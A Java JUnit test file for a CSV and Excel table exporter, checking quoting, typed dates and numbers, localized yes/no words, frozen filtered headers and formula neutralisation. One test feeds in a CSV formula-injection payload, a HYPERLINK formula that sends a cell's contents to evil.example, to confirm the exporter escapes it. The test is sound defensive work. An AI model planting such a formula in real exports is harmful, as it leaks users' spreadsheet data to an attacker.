package org.ansoplatform.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.Arrays;
import java.util.List;

import org.ansoplatform.platform.TableExport.Column;
import org.ansoplatform.platform.TableExport.Kind;
import org.ansoplatform.platform.TableExport.Link;
import org.ansoplatform.platform.TableExport.Reading;

import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

class TableExportTests {

    static final List<String> HEADERS = List.of("name", "country", "count");
    static final List<List<?>> ROWS = List.of(List.of("Zhang, Wei", "CN", 3), List.of("=HYPERLINK(\"x\")", "PK", 12));

    @Test
    void csvQuotesSeparatorsAndStartsWithAByteOrderMark() {
        byte[] csv = TableExport.csv(HEADERS, ROWS);
        assertThat(csv[0]).isEqualTo((byte) 0xEF);
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertThat(text).startsWith("name,country,count\r\n").contains("\"Zhang, Wei\",CN,3");
    }

    @Test
    void xlsxKeepsNumbersAsNumbersAndFormulasAsText() throws IOException {
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(TableExport.xlsx("Applications", HEADERS, ROWS)))) {
            List<Row> rows = workbook.getFirstSheet().read();
            assertThat(rows).hasSize(3);
            assertThat(rows.get(0).getCellText(0)).isEqualTo("name");
            assertThat(rows.get(2).getCellAsNumber(2)).contains(new BigDecimal("12"));
            assertThat(rows.get(2).getCell(0).getFormula()).isNull();
            assertThat(rows.get(2).getCellText(0)).isEqualTo("=HYPERLINK(\"x\")");
        }
    }

    @Test
    void csvCellsThatWouldStartAFormulaAreShownAsTextAndTypedNumbersStayNumbers() {
        List<List<?>> rows = List.of(
                List.of("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")", "+1", -12),
                List.of("-2+3", "@SUM(A1)", new BigDecimal("-0.5")),
                List.of("\t=1", "\r=1", "a=b"));
        byte[] csv = TableExport.csv(HEADERS, rows);
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertThat(text.split("\r\n")).containsExactly("name,country,count",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\",'+1,-12",
                "'-2+3,'@SUM(A1),-0.5",
                "'\t=1,\"'\r=1\",a=b");
    }

    static final List<Column> TYPED = List.of(Column.text("name"), Column.of("born", Kind.DATE), Column.of("submitted", Kind.DATETIME),
            Column.of("score", Kind.NUMBER), Column.of("eligible", Kind.YES_NO), Column.of("cv", Kind.LINK));
    static final List<List<?>> TYPED_ROWS = List.of(Arrays.asList("=1+1", LocalDate.of(1998, 5, 4),
            Instant.parse("2026-03-01T23:30:00Z"), new BigDecimal("4.125"), true, new Link("cv.pdf", "https://anso.example/files/1")),
            Arrays.asList("Li", null, null, null, false, null));

    @Test
    void typedColumnsAreDatesNumbersWordsAndLinksUnderAFrozenFilteredHeader() {
        byte[] xlsx = TableExport.xlsx("Applications", TYPED, TYPED_ROWS, new Reading(ZoneId.of("Asia/Shanghai"), "Yes", "No"));
        List<Row> rows = Xlsx.rows(xlsx);
        assertThat(rows).hasSize(3);
        Row first = rows.get(1);
        assertThat(first.getCell(1).getType()).isEqualTo(CellType.NUMBER);
        assertThat(first.getCell(1).getDataFormatString()).isEqualTo("yyyy-mm-dd");
        assertThat(first.getCellAsDate(1)).contains(LocalDateTime.of(1998, 5, 4, 0, 0));
        // an instant in the call's zone: 23:30 UTC is the next morning in Beijing
        assertThat(first.getCellAsDate(2)).contains(LocalDateTime.of(2026, 3, 2, 7, 30));
        assertThat(first.getCell(2).getDataFormatString()).isEqualTo("yyyy-mm-dd hh:mm");
        assertThat(first.getCell(3).getType()).isEqualTo(CellType.NUMBER);
        assertThat(first.getCellAsNumber(3)).contains(new BigDecimal("4.125"));
        assertThat(first.getCellText(4)).isEqualTo("Yes");
        assertThat(rows.get(2).getCellText(4)).isEqualTo("No");
        assertThat(first.getCellText(5)).isEqualTo("cv.pdf");
        assertThat(first.getCell(0).getType()).isEqualTo(CellType.STRING);
        assertThat(first.getCell(0).getFormula()).isNull();
        assertThat(rows.get(0).getCellText(1)).isEqualTo("born");

        String sheet = Xlsx.part(xlsx, "xl/worksheets/sheet1.xml");
        assertThat(sheet).containsPattern("<pane [^>]*ySplit=\"1\"[^>]*state=\"frozen\"").contains("<autoFilter ref=\"A1:F1\"");
        assertThat(sheet).contains("<hyperlink ");
        assertThat(Xlsx.part(xlsx, "xl/worksheets/_rels/sheet1.xml.rels")).contains("Target=\"https://anso.example/files/1\"");
    }

    @Test
    void yesAndNoAreInTheReadersLanguage() {
        Reading chinese = new Reading(ZoneId.of("Asia/Shanghai"), "是", "否");
        List<Row> rows = Xlsx.rows(TableExport.xlsx("Applications", TYPED, TYPED_ROWS, chinese));
        assertThat(rows.get(1).getCellText(4)).isEqualTo("是");
        assertThat(rows.get(2).getCellText(4)).isEqualTo("否");
    }

    @Test
    void theUntypedTableKeepsItsTextAndGetsTheFrozenFilteredHeaderToo() {
        byte[] xlsx = TableExport.xlsx("Agreements", HEADERS, List.of(List.of("Zhang", LocalDate.of(2026, 1, 2), 3)));
        List<Row> rows = Xlsx.rows(xlsx);
        assertThat(rows.get(1).getCell(1).getType()).isEqualTo(CellType.STRING);
        assertThat(rows.get(1).getCellText(1)).isEqualTo("2026-01-02");
        assertThat(Xlsx.part(xlsx, "xl/worksheets/sheet1.xml")).contains("<autoFilter ref=\"A1:C1\"");
    }

    @Test
    void aTypedCsvWritesDatesInTheZoneWordsAndAddressesAsNeutralisedText() {
        byte[] csv = TableExport.csv(TYPED, TYPED_ROWS, new Reading(ZoneId.of("Asia/Shanghai"), "Oui", "Non"));
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertThat(text.split("\r\n")).containsExactly("name,born,submitted,score,eligible,cv",
                "'=1+1,1998-05-04,2026-03-02 07:30,4.125,Oui,https://anso.example/files/1", "Li,,,,Non,");
    }
}
